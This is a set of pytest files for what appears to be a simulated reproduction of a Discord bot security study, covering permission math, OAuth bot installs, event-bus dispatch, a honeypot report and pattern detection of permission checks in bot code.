        with pytest.raises(AttributeError):
            Permissions(1).value = 2  # type: ignore[misc]


class TestAdministratorSemantics:
    def test_admin_implies_everything_via_has(self):
        admin = Permissions.administrator()
        assert admin.has(Permission.BAN_MEMBERS)
        assert admin.has(Permission.MANAGE_WEBHOOKS)

    def test_has_exactly_ignores_admin_shortcut(self):
        admin = Permissions.administrator()
        assert not admin.has_exactly(Permission.BAN_MEMBERS)
        assert admin.has_exactly(Permission.ADMINISTRATOR)

    def test_redundant_with_administrator(self):
        combo = Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES, Permission.KICK_MEMBERS)
        redundant = combo.redundant_with_administrator()
        assert set(redundant) == {Permission.SEND_MESSAGES, Permission.KICK_MEMBERS}

    def test_no_redundancy_without_admin(self):
        assert Permissions.of(Permission.SEND_MESSAGES).redundant_with_administrator() == []


class TestAlgebra:
    def test_union(self):
        a = Permissions.of(Permission.SPEAK)
        b = Permissions.of(Permission.CONNECT)
        assert (a | b).has_exactly(Permission.SPEAK)
        assert (a | b).has_exactly(Permission.CONNECT)

    def test_intersection(self):
        a = Permissions.of(Permission.SPEAK, Permission.CONNECT)
        b = Permissions.of(Permission.CONNECT)
        assert (a & b) == Permissions.of(Permission.CONNECT)

    def test_difference(self):
        a = Permissions.of(Permission.SPEAK, Permission.CONNECT)
        assert (a - Permissions.of(Permission.SPEAK)) == Permissions.of(Permission.CONNECT)

    def test_subset(self):
        small = Permissions.of(Permission.SPEAK)
        big = Permissions.of(Permission.SPEAK, Permission.CONNECT)
        assert small.is_subset(big)
        assert not big.is_subset(small)

    def test_iter_and_len(self):
        permissions = Permissions.of(Permission.SPEAK, Permission.CONNECT)
        assert len(permissions) == 2
        assert set(permissions) == {Permission.SPEAK, Permission.CONNECT}

    def test_display_names_match_flags(self):
        permissions = Permissions.of(Permission.SEND_TTS_MESSAGES)
        assert permissions.display_names() == ["send tts messages"]

    def test_all_contains_every_flag(self):
        for flag in Permission:
            assert ALL_PERMISSIONS.has_exactly(flag)


class TestOverwriteMath:
    def test_base_union_of_roles(self):
        base = compute_base_permissions(
            [Permissions.of(Permission.SPEAK), Permissions.of(Permission.CONNECT)]
        )
        assert base.has_exactly(Permission.SPEAK) and base.has_exactly(Permission.CONNECT)

    def test_owner_gets_all(self):
        assert compute_base_permissions([], is_owner=True) == Permissions.all()

    def test_admin_role_resolves_to_all(self):
        base = compute_base_permissions([Permissions.administrator()])
        assert base == Permissions.all()

    def test_deny_then_allow_order(self):
        base = Permissions.of(Permission.SEND_MESSAGES, Permission.VIEW_CHANNEL)
        everyone = PermissionOverwrite(target_id=1, deny=Permissions.of(Permission.SEND_MESSAGES))
        role = PermissionOverwrite(target_id=2, allow=Permissions.of(Permission.SEND_MESSAGES))
        result = compute_channel_permissions(base, everyone, [role], None)
        assert result.has_exactly(Permission.SEND_MESSAGES)

    def test_member_overwrite_wins_last(self):
        base = Permissions.of(Permission.SEND_MESSAGES)
        member = PermissionOverwrite(target_id=3, deny=Permissions.of(Permission.SEND_MESSAGES))
        result = compute_channel_permissions(base, None, [], member)
        assert not result.has_exactly(Permission.SEND_MESSAGES)

    def test_admin_bypasses_overwrites(self):
        base = Permissions.administrator()
        everyone = PermissionOverwrite(target_id=1, deny=Permissions.all())
        result = compute_channel_permissions(base, everyone, [], None)
        assert result == Permissions.all()

    def test_role_overwrites_aggregate(self):
        base = Permissions.none()
        role_a = PermissionOverwrite(target_id=1, allow=Permissions.of(Permission.SPEAK))
        role_b = PermissionOverwrite(target_id=2, allow=Permissions.of(Permission.CONNECT))
        result = compute_channel_permissions(base, None, [role_a, role_b], None)
        assert result.has_exactly(Permission.SPEAK) and result.has_exactly(Permission.CONNECT)
