"""Tests for the platform: accounts, installs, anti-abuse, messaging."""

import pytest

from repro.discordsim.guild import PermissionDenied
from repro.discordsim.models import Attachment
from repro.discordsim.oauth import OAuthScope, build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform, InstallError, VerificationRequired
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture
def installed(platform, clock):
    """owner + guild + an installed admin bot, via the real OAuth flow."""
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "G")
    developer = platform.create_user("dev", phone_verified=True)
    application = platform.register_application(developer, "HelperBot")
    url = build_invite_url(application.client_id, Permissions.of(Permission.ADMINISTRATOR))
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
    member = platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return platform, owner, guild, application, member


class TestAccounts:
    def test_create_user_ids_unique(self, platform):
        a = platform.create_user("a")
        b = platform.create_user("b")
        assert a.user_id != b.user_id

    def test_custom_client_id(self, platform):
        developer = platform.create_user("dev")
        application = platform.register_application(developer, "X", client_id=42)
        assert platform.applications[42] is application

    def test_duplicate_client_id_rejected(self, platform):
        developer = platform.create_user("dev")
        platform.register_application(developer, "X", client_id=42)
        with pytest.raises(Exception):
            platform.register_application(developer, "Y", client_id=42)

    def test_bot_user_flag(self, platform):
        developer = platform.create_user("dev")
        application = platform.register_application(developer, "X")
        assert application.bot_user.is_bot


class TestInstallFlow:
    def test_full_flow_creates_managed_role(self, installed):
        platform, owner, guild, application, member = installed
        assert member.user.is_bot
        role = guild.top_role(member.user_id)
        assert role.managed
        assert role.permissions.is_administrator
        assert platform.installs[-1].client_id == application.client_id

    def test_captcha_required(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        developer = platform.create_user("d")
        application = platform.register_application(developer, "B")
        url = build_invite_url(application.client_id, Permissions.none())
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        with pytest.raises(InstallError):
            platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, "wrong")

    def test_installer_needs_manage_guild(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        regular = platform.create_user("r")
        platform.join_guild(regular.user_id, guild.guild_id)
        developer = platform.create_user("d")
        application = platform.register_application(developer, "B")
        url = build_invite_url(application.client_id, Permissions.none())
        screen = platform.begin_install(regular.user_id, url, guild.guild_id)
        answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
        with pytest.raises(InstallError, match="MANAGE_GUILD"):
            platform.complete_install(regular.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)

    def test_unknown_application(self, platform):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        url = build_invite_url(999999, Permissions.none())
        with pytest.raises(InstallError):
            platform.begin_install(owner.user_id, url, guild.guild_id)

    def test_malformed_invite(self, platform):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        with pytest.raises(InstallError):
            platform.begin_install(owner.user_id, "https://discord.sim/oauth2/authorize?client_id=&scope=bot", guild.guild_id)

    @pytest.mark.parametrize(
        "invite_url",
        [
            "",
            "not a url",
            "https://discord.sim/oauth2/authorize?client_id=&scope=bot",
            "https://discord.sim/oauth2/authorize?client_id=abc&scope=bot",
            "https://discord.sim/oauth2/authorize?scope=bot",
        ],
    )
    def test_malformed_invite_on_complete(self, platform, invite_url):
        # Regression: a listing can advertise a different (broken) invite
        # than the one begin_install validated; complete_install must raise
        # InstallError rather than leak the parser's own exception.
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        with pytest.raises(InstallError, match="invalid invite link"):
            platform.complete_install(owner.user_id, guild.guild_id, invite_url, "captcha-id", "answer")

    def test_whitelisted_scope_rejected_without_whitelist(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        developer = platform.create_user("d")
        application = platform.register_application(developer, "B")
        url = build_invite_url(
            application.client_id, Permissions.none(), scopes=(OAuthScope.BOT, OAuthScope.MESSAGES_READ)
        )
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
        with pytest.raises(InstallError, match="whitelist"):
            platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)

    def test_whitelisted_scope_allowed_when_whitelisted(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        developer = platform.create_user("d")
        application = platform.register_application(
            developer, "B", whitelisted_scopes=frozenset({OAuthScope.MESSAGES_READ})
        )
        url = build_invite_url(
            application.client_id, Permissions.none(), scopes=(OAuthScope.BOT, OAuthScope.MESSAGES_READ)
        )
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
        member = platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
        assert member.user.is_bot


class TestAntiAbuse:
    def test_rapid_joins_flag_unverified_account(self, platform):
        user = platform.create_user("joiner")
        owners = [platform.create_user(f"o{i}", phone_verified=True) for i in range(12)]
        guilds = [platform.create_guild(owner, f"G{i}") for i, owner in enumerate(owners)]
        with pytest.raises(VerificationRequired):
            for guild in guilds:
                platform.join_guild(user.user_id, guild.guild_id)
        assert user.flagged_for_verification

    def test_verified_accounts_join_freely(self, platform):
        user = platform.create_user("joiner", phone_verified=True)
        for index in range(15):
            owner = platform.create_user(f"o{index}", phone_verified=True)
            guild = platform.create_guild(owner, f"G{index}")
            platform.join_guild(user.user_id, guild.guild_id)
        assert len(user.guild_ids) == 15

    def test_verify_phone_clears_flag(self, platform):
        user = platform.create_user("joiner")
        user.flagged_for_verification = True
        platform.verify_phone(user.user_id)
        assert user.phone_verified and not user.flagged_for_verification

    def test_bots_have_no_guild_limit(self, installed):
        """Unlike normal users, chatbots can join without limits."""
        platform, owner, guild, application, member = installed
        for index in range(20):
            extra_owner = platform.create_user(f"eo{index}", phone_verified=True)
            extra = platform.create_guild(extra_owner, f"Extra{index}")
            extra.add_member(application.bot_user)  # direct add: no flag raised
        assert len(application.bot_user.guild_ids) >= 20


class TestMessaging:
    def test_post_requires_send_messages(self, installed):
        platform, owner, guild, application, member = installed
        muted = platform.create_user("muted")
        platform.join_guild(muted.user_id, guild.guild_id)
        channel = guild.text_channels()[0]
        from repro.discordsim.permissions import PermissionOverwrite

        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=muted.user_id, deny=Permissions.of(Permission.SEND_MESSAGES)),
        )
        with pytest.raises(PermissionDenied):
            platform.post_message(muted.user_id, guild.guild_id, channel.channel_id, "hi")

    def test_attachments_require_attach_files(self, installed):
        platform, owner, guild, application, member = installed
        poster = platform.create_user("p")
        platform.join_guild(poster.user_id, guild.guild_id)
        channel = guild.text_channels()[0]
        from repro.discordsim.permissions import PermissionOverwrite

        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=poster.user_id, deny=Permissions.of(Permission.ATTACH_FILES)),
        )
        attachment = Attachment(1, "x.txt", "text/plain", 1)
        with pytest.raises(PermissionDenied):
            platform.post_message(poster.user_id, guild.guild_id, channel.channel_id, "f", [attachment])

    def test_gateway_visibility_excludes_own_messages(self, installed):
        platform, owner, guild, application, member = installed
        seen = []
        platform.subscribe_bot(application.bot_user.user_id, seen.append)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "hello bot")
        platform.post_message(application.bot_user.user_id, guild.guild_id, channel.channel_id, "reply")
        assert len(seen) == 1
        assert seen[0].payload["message"].content == "hello bot"

    def test_gateway_visibility_requires_view_channel(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        developer = platform.create_user("d")
        application = platform.register_application(developer, "BlindBot")
        # Install with no permissions at all.
        url = build_invite_url(application.client_id, Permissions.none())
        screen = platform.begin_install(owner.user_id, url, guild.guild_id)
        answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
        platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
        channel = guild.text_channels()[0]
        from repro.discordsim.permissions import PermissionOverwrite

        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(
                target_id=application.bot_user.user_id,
                deny=Permissions.of(Permission.VIEW_CHANNEL),
            ),
        )
        seen = []
        platform.subscribe_bot(application.bot_user.user_id, seen.append)
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "secret")
        assert seen == []
