"""Focused tests for less-travelled paths across the stack."""

import pytest

from repro.discordsim.api import BotApiClient
from repro.discordsim.bot import BotRuntime
from repro.discordsim.guild import GuildError, PermissionDenied
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.honeypot.experiment import HoneypotReport
from repro.web.captcha import TwoCaptchaClient
from repro.web.client import HttpClient
from repro.web.http import Response
from repro.web.server import VirtualHost


def _install(platform, clock, guild, owner, name="Bot", permissions=None):
    developer = platform.create_user(f"dev-{name}", phone_verified=True)
    application = platform.register_application(developer, name)
    requested = permissions if permissions is not None else Permissions.of(Permission.ADMINISTRATOR)
    url = build_invite_url(application.client_id, requested)
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(clock, accuracy=1.0).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return application


class TestClientRedirectSemantics:
    def test_post_becomes_get_after_redirect(self, internet):
        host = VirtualHost("h")
        seen_methods = []

        def submit(request):
            seen_methods.append(request.method)
            return Response.redirect("/landing", status=303)

        def landing(request):
            seen_methods.append(request.method)
            return Response.text("ok")

        host.add_route("/submit", submit, method="POST")
        host.add_route("/landing", landing)
        internet.register("h.sim", host)
        response = HttpClient(internet).post("https://h.sim/submit", body="payload")
        assert response.body == "ok"
        assert seen_methods == ["POST", "GET"]


class TestApiOdds(object):
    @pytest.fixture
    def world(self, platform, clock):
        owner = platform.create_user("owner", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        application = _install(platform, clock, guild, owner)
        return platform, owner, guild, application

    def test_delete_message_removes(self, world):
        platform, owner, guild, application = world
        api = BotApiClient(platform, application.bot_user.user_id)
        channel = guild.text_channels()[0]
        message = platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "oops")
        api.delete_message(guild.guild_id, channel.channel_id, message.message_id)
        assert all(m.message_id != message.message_id for m in channel.messages)

    def test_add_reaction_requires_permission(self, platform, clock):
        owner = platform.create_user("owner", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        application = _install(platform, clock, guild, owner, permissions=Permissions.none())
        api = BotApiClient(platform, application.bot_user.user_id)
        channel = guild.text_channels()[0]
        from repro.discordsim.permissions import PermissionOverwrite

        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(
                target_id=application.bot_user.user_id,
                deny=Permissions.of(Permission.ADD_REACTIONS),
            ),
        )
        with pytest.raises(PermissionDenied):
            api.add_reaction(guild.guild_id, channel.channel_id, 1, ":+1:")

    def test_guild_count(self, world):
        platform, owner, guild, application = world
        api = BotApiClient(platform, application.bot_user.user_id)
        assert api.guild_count() == 1

    def test_send_email_to_unroutable_domain(self, world, internet):
        platform, owner, guild, application = world
        api = BotApiClient(platform, application.bot_user.user_id, internet=internet)
        assert api.send_email("nobody@nowhere.sim", "hi") is None


class TestRuntimeTickErrors:
    def test_tick_records_guild_errors(self, platform, clock):
        owner = platform.create_user("owner", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        application = _install(platform, clock, guild, owner)
        runtime = BotRuntime(platform, application.bot_user.user_id)

        def bad_tick(bot):
            raise GuildError("scheduled job exploded")

        runtime.add_tick_handler(bad_tick)
        runtime.tick()  # must not raise
        assert runtime.errors and runtime.errors[0][0] == "tick"


class TestHoneypotReportEdges:
    def test_empty_report_metrics(self):
        report = HoneypotReport()
        assert report.precision == 1.0
        assert report.recall == 1.0
        assert report.bots_tested == 0
        assert report.flagged_bots == []


class TestPermissionsMisc:
    def test_bool_semantics(self):
        assert not Permissions.none()
        assert Permissions.of(Permission.SPEAK)

    def test_default_everyone_can_use_slash_commands(self):
        assert Permissions.default_everyone().has(Permission.USE_APPLICATION_COMMANDS)

    def test_repr_lists_flags(self):
        text = repr(Permissions.of(Permission.SPEAK))
        assert "SPEAK" in text
