"""The indexed event bus: O(matching) delivery, preserved semantics.

The flat-list bus examined every subscriber for every event, so a guild
with N co-resident bots paid N predicate calls per message *anywhere* on
the platform — the honeypot's per-message dispatch cost was O(all bots),
quadratic over a campaign.  The bucketed bus must only examine
subscriptions whose ``(event_type, guild_id)`` can match, while keeping
the old contract bit-for-bit: global subscription order, guards first,
unsubscribe-during-dispatch safety.
"""

from __future__ import annotations

import pytest

from repro.discordsim.gateway import Event, EventBus, EventType
from repro.discordsim.models import ChannelType
from repro.discordsim.platform import DiscordPlatform


def _message(guild_id: int, time: float = 0.0) -> Event:
    return Event(EventType.MESSAGE_CREATE, guild_id, {"message": None}, time)


class TestIndexedDelivery:
    def test_guild_keyed_subscription_only_sees_its_guild(self):
        bus = EventBus()
        seen = []
        bus.subscribe(lambda event: seen.append(event.guild_id), EventType.MESSAGE_CREATE, guild_id=7)
        bus.dispatch(_message(7))
        bus.dispatch(_message(8))
        assert seen == [7]

    def test_wildcard_subscriptions_see_everything(self):
        bus = EventBus()
        by_type, by_guild, global_ = [], [], []
        bus.subscribe(lambda event: by_type.append(event.guild_id), EventType.MESSAGE_CREATE)
        bus.subscribe(lambda event: by_guild.append(event.type), guild_id=7)
        bus.subscribe(lambda event: global_.append(event.guild_id))
        bus.dispatch(_message(7))
        bus.dispatch(Event(EventType.GUILD_CREATE, 7))
        bus.dispatch(_message(9))
        assert by_type == [7, 9]
        assert by_guild == [EventType.MESSAGE_CREATE, EventType.GUILD_CREATE]
        assert global_ == [7, 7, 9]

    def test_examined_count_is_o_matching_not_o_subscribers(self):
        """1,000 bots keyed to one guild cost nothing in another guild."""
        bus = EventBus()
        for _ in range(1000):
            bus.subscribe(lambda event: None, EventType.MESSAGE_CREATE, guild_id=1)
        bus.subscribe(lambda event: None, EventType.MESSAGE_CREATE, guild_id=2)
        before = bus.subscribers_examined
        bus.dispatch(_message(2))
        assert bus.subscribers_examined - before == 1
        before = bus.subscribers_examined
        bus.dispatch(_message(1))
        assert bus.subscribers_examined - before == 1000

    def test_counters_match_flat_bus_contract(self):
        bus = EventBus()
        bus.subscribe(lambda event: None, EventType.MESSAGE_CREATE, guild_id=1)
        bus.subscribe(lambda event: None, EventType.MESSAGE_CREATE, predicate=lambda event: False)
        bus.dispatch(_message(1))
        assert bus.events_dispatched == 1
        # Predicate-rejected subscribers are examined but not delivered.
        assert bus.deliveries == 1


class TestPreservedSemantics:
    def test_delivery_order_is_global_subscription_order(self):
        """Bucketing must not reorder delivery: a guild-keyed subscriber
        registered *after* a wildcard one still runs after it."""
        bus = EventBus()
        order = []
        bus.subscribe(lambda event: order.append("wild"), EventType.MESSAGE_CREATE)
        bus.subscribe(lambda event: order.append("guild"), EventType.MESSAGE_CREATE, guild_id=5)
        bus.subscribe(lambda event: order.append("global"))
        bus.dispatch(_message(5))
        assert order == ["wild", "guild", "global"]

    def test_unsubscribe_during_dispatch_still_delivers_in_flight(self):
        bus = EventBus()
        seen = []
        unsubscribers = []

        def first(event):
            seen.append("first")
            unsubscribers[1]()

        def second(event):
            seen.append("second")

        unsubscribers.append(bus.subscribe(first, EventType.MESSAGE_CREATE, guild_id=3))
        unsubscribers.append(bus.subscribe(second, EventType.MESSAGE_CREATE, guild_id=3))
        assert bus.dispatch(_message(3)) == 2
        assert seen == ["first", "second"]
        assert bus.dispatch(_message(3)) == 1
        assert seen == ["first", "second", "first"]

    def test_unsubscribe_is_idempotent(self):
        bus = EventBus()
        unsubscribe = bus.subscribe(lambda event: None, EventType.MESSAGE_CREATE, guild_id=1)
        unsubscribe()
        unsubscribe()
        assert bus.subscriber_count() == 0

    def test_guard_veto_blocks_every_bucket(self):
        bus = EventBus()
        seen = []
        bus.subscribe(lambda event: seen.append(event.guild_id), EventType.MESSAGE_CREATE, guild_id=4)

        def guard(event):
            raise RuntimeError("vetoed")

        remove = bus.add_guard(guard)
        with pytest.raises(RuntimeError):
            bus.dispatch(_message(4))
        assert seen == []
        remove()
        bus.dispatch(_message(4))
        assert seen == [4]


class TestPlatformRoutes:
    def _guild_with_channel(self, platform, owner, name):
        guild = platform.create_guild(owner, name)
        return guild, guild.text_channels()[0]

    def test_bot_route_attaches_to_member_guilds(self):
        platform = DiscordPlatform()
        owner = platform.create_user("owner", phone_verified=True)
        guild, channel = self._guild_with_channel(platform, owner, "g1")
        application = platform.register_application(owner, "HelperBot")
        platform.join_guild(application.bot_user.user_id, guild.guild_id)
        received = []
        platform.subscribe_bot(application.bot_user.user_id, received.append)
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "hi")
        assert [event.payload["message"].content for event in received] == ["hi"]

    def test_route_extends_when_bot_joins_after_subscribing(self):
        platform = DiscordPlatform()
        owner = platform.create_user("owner", phone_verified=True)
        guild1, channel1 = self._guild_with_channel(platform, owner, "g1")
        application = platform.register_application(owner, "HelperBot")
        platform.join_guild(application.bot_user.user_id, guild1.guild_id)
        received = []
        platform.subscribe_bot(application.bot_user.user_id, received.append)
        guild2, channel2 = self._guild_with_channel(platform, owner, "g2")
        platform.join_guild(application.bot_user.user_id, guild2.guild_id)
        platform.post_message(owner.user_id, guild2.guild_id, channel2.channel_id, "later guild")
        assert [event.guild_id for event in received] == [guild2.guild_id]

    def test_unsubscribe_detaches_every_guild(self):
        platform = DiscordPlatform()
        owner = platform.create_user("owner", phone_verified=True)
        guild, channel = self._guild_with_channel(platform, owner, "g1")
        application = platform.register_application(owner, "HelperBot")
        platform.join_guild(application.bot_user.user_id, guild.guild_id)
        received = []
        unsubscribe = platform.subscribe_bot(application.bot_user.user_id, received.append)
        unsubscribe()
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "hi")
        assert received == []
        assert platform.events.subscriber_count() == 0

    def test_bot_never_sees_its_own_messages(self):
        platform = DiscordPlatform()
        owner = platform.create_user("owner", phone_verified=True)
        guild, channel = self._guild_with_channel(platform, owner, "g1")
        application = platform.register_application(owner, "HelperBot")
        platform.join_guild(application.bot_user.user_id, guild.guild_id)
        received = []
        platform.subscribe_bot(application.bot_user.user_id, received.append)
        platform.post_message(application.bot_user.user_id, guild.guild_id, channel.channel_id, "me")
        assert received == []

    def test_dispatch_cost_scales_with_guild_not_platform(self):
        """Co-residency pricing: message dispatch in a 2-bot guild examines
        2 subscriptions even with hundreds of bots routed elsewhere."""
        platform = DiscordPlatform()
        owner = platform.create_user("owner", phone_verified=True)
        big, _ = self._guild_with_channel(platform, owner, "big")
        small, small_channel = self._guild_with_channel(platform, owner, "small")
        for index in range(200):
            application = platform.register_application(owner, f"bot-{index}")
            platform.join_guild(application.bot_user.user_id, big.guild_id)
            platform.subscribe_bot(application.bot_user.user_id, lambda event: None)
        for index in range(2):
            application = platform.register_application(owner, f"small-{index}")
            platform.join_guild(application.bot_user.user_id, small.guild_id)
            platform.subscribe_bot(application.bot_user.user_id, lambda event: None)
        before = platform.events.subscribers_examined
        platform.post_message(owner.user_id, small.guild_id, small_channel.channel_id, "hello")
        assert platform.events.subscribers_examined - before == 2
