"""Integration tests: the full pipeline end to end (shared 600-bot world)."""

import pytest

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld
from repro.core.report import render_full_report
from repro.traceability.analyzer import TraceabilityClass


class TestPipelineRun:
    def test_collects_whole_population(self, pipeline_result, pipeline_config):
        assert pipeline_result.bots_collected == pipeline_config.n_bots

    def test_valid_fraction_near_paper(self, pipeline_result):
        fraction = pipeline_result.active_bots / pipeline_result.bots_collected
        assert abs(fraction - 0.742) < 0.05

    def test_headline_permission_rates(self, pipeline_result):
        dist = pipeline_result.permission_distribution
        assert abs(dist.administrator_percent - 54.86) < 6.0
        assert abs(dist.send_messages_percent - 59.18) < 6.0
        assert dist.send_messages_percent >= dist.administrator_percent - 2.0

    def test_most_bots_with_admin_ask_for_more(self, pipeline_result):
        """Section 5: admin + extra permissions implies misunderstanding."""
        dist = pipeline_result.permission_distribution
        assert dist.admin_with_extras_fraction > 0.45

    def test_developer_distribution(self, pipeline_result):
        developers = pipeline_result.developer_distribution
        assert developers.percent_with_one_bot() > 80.0
        assert developers.max_bots_by_one_developer <= 12

    def test_traceability_table(self, pipeline_result):
        summary = pipeline_result.traceability_summary
        table = {row[0]: row for row in summary.table2()}
        website_percent = table["Website Link"][2]
        policy_percent = table["Privacy Policy"][2]
        assert abs(website_percent - 37.27) < 7.0
        assert policy_percent < 12.0
        assert summary.broken_fraction > 0.85
        assert summary.complete_count == 0

    def test_traceability_validation_clean(self, pipeline_result):
        """The paper's manual review found zero misclassifications; our
        keyword analyzer is exact on the generated corpus."""
        assert pipeline_result.validation is not None
        assert pipeline_result.validation.misclassified == 0

    def test_code_analysis_shape(self, pipeline_result):
        code = pipeline_result.code_summary
        assert abs(code.github_link_percent - 23.86) < 6.0
        assert abs(code.valid_repo_percent_of_links - 60.46) < 10.0
        assert code.language_percent("JavaScript") > code.language_percent("Python")
        # The headline gap: JS bots mostly check, Python bots almost never.
        assert code.check_rate("JavaScript") > 0.5
        assert code.check_rate("Python") < 0.15

    def test_honeypot_flags_only_melonian(self, pipeline_result):
        honeypot = pipeline_result.honeypot
        assert honeypot is not None
        assert [outcome.bot_name for outcome in honeypot.flagged_bots] == ["Melonian"]
        assert honeypot.precision == 1.0 and honeypot.recall == 1.0

    def test_scrape_accounting(self, pipeline_result):
        stats = pipeline_result.scrape_stats
        assert stats.pages_fetched > pipeline_result.bots_collected  # list+detail+invites
        assert stats.captchas_solved == stats.captchas_seen
        assert pipeline_result.virtual_seconds > 0
        assert pipeline_result.captcha_dollars > 0

    def test_summary_lines_mention_key_findings(self, pipeline_result):
        text = "\n".join(pipeline_result.summary_lines())
        assert "administrator" in text
        assert "broken traceability" in text
        assert "Melonian" in text


class TestReportRendering:
    def test_report_contains_all_sections(self, pipeline_result):
        report = render_full_report(pipeline_result)
        assert "Figure 3" in report
        assert "Table 1" in report
        assert "Table 2" in report
        assert "Honeypot campaign" in report
        assert "Melonian" in report
        assert "wtf is this bro" in report


class TestStageToggles:
    def test_stages_can_be_disabled(self):
        config = PipelineConfig(
            n_bots=60,
            seed=3,
            run_traceability=False,
            run_code_analysis=False,
            run_honeypot=False,
            honeypot_sample_size=10,
        )
        result = AssessmentPipeline(config).run()
        assert result.traceability_summary is None
        assert result.code_summary is None
        assert result.honeypot is None
        assert result.permission_distribution is not None

    def test_scaled_copy(self):
        config = PipelineConfig().scaled(100)
        assert config.n_bots == 100
        assert config.honeypot_sample_size == 100

    def test_world_reuse_between_pipelines(self):
        config = PipelineConfig(
            n_bots=50, seed=4, honeypot_sample_size=5, run_traceability=False, run_code_analysis=False, run_honeypot=False
        )
        world = PipelineWorld.build(config)
        first = AssessmentPipeline(config, world=world).run()
        second = AssessmentPipeline(config, world=world).run()
        assert first.bots_collected == second.bots_collected == 50
