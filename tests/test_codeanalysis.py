"""Tests for pattern matching, language detection and repo analysis."""

import pytest

from repro.codeanalysis import (
    CHECK_PATTERNS,
    CodeAnalyzer,
    detect_language,
    find_check_hits,
    language_of_path,
)
from repro.codeanalysis.patterns import contains_check


class TestPatterns:
    def test_table3_patterns_verbatim(self):
        assert CHECK_PATTERNS == (".hasPermission(", ".has(", "member.roles.cache", "userPermissions")

    def test_has_permission_detected(self):
        files = {"index.js": "if (!message.member.hasPermission('KICK_MEMBERS')) return;"}
        hits = find_check_hits(files)
        assert [hit.pattern for hit in hits] == [".hasPermission("]

    def test_dot_has_detected(self):
        files = {"bot.py": "if not perms.has(Permission.BAN_MEMBERS):\n    return"}
        assert contains_check(files)

    def test_roles_cache_detected(self):
        files = {"mod.js": "const ok = member.roles.cache.some(r => r.name === 'Staff');"}
        hits = find_check_hits(files)
        assert any(hit.pattern == "member.roles.cache" for hit in hits)

    def test_user_permissions_detected(self):
        files = {"cmd.js": "module.exports.userPermissions = ['MANAGE_MESSAGES'];"}
        assert contains_check(files)

    def test_clean_code_not_flagged(self):
        files = {"index.js": "client.on('messageCreate', m => console.log(m.content));"}
        assert not contains_check(files)

    def test_has_permission_does_not_double_count_dot_has(self):
        # ".hasPermission(" does not contain ".has(" as substring.
        files = {"x.js": "m.member.hasPermission('X')"}
        patterns = {hit.pattern for hit in find_check_hits(files)}
        assert patterns == {".hasPermission("}

    def test_markdown_and_manifests_skipped(self):
        files = {
            "README.md": "call member.roles.cache to check roles",
            "package.json": '{"userPermissions": true}',
        }
        assert not contains_check(files)

    def test_hit_location_reported(self):
        files = {"a.js": "line one\nif (x.has(y)) {}\n"}
        hit = find_check_hits(files)[0]
        assert hit.path == "a.js" and hit.line_number == 2

    def test_comment_stripping_mode(self):
        files = {"a.js": "// if (m.member.hasPermission('X')) legacy\nreal();\n"}
        assert contains_check(files)  # paper's naive matching counts it
        assert not contains_check(files, language="JavaScript", ignore_comments=True)

    def test_comment_stripping_python(self):
        files = {"a.py": "# perms.has(x) was removed\npass\n"}
        assert not contains_check(files, language="Python", ignore_comments=True)


class TestLanguageDetection:
    def test_by_extension(self):
        assert language_of_path("src/index.js") == "JavaScript"
        assert language_of_path("bot.py") == "Python"
        assert language_of_path("Main.java") == "Java"
        assert language_of_path("README.md") is None

    def test_main_language_by_bytes(self):
        files = {"a.py": "x" * 100, "b.js": "y" * 10}
        assert detect_language(files) == "Python"

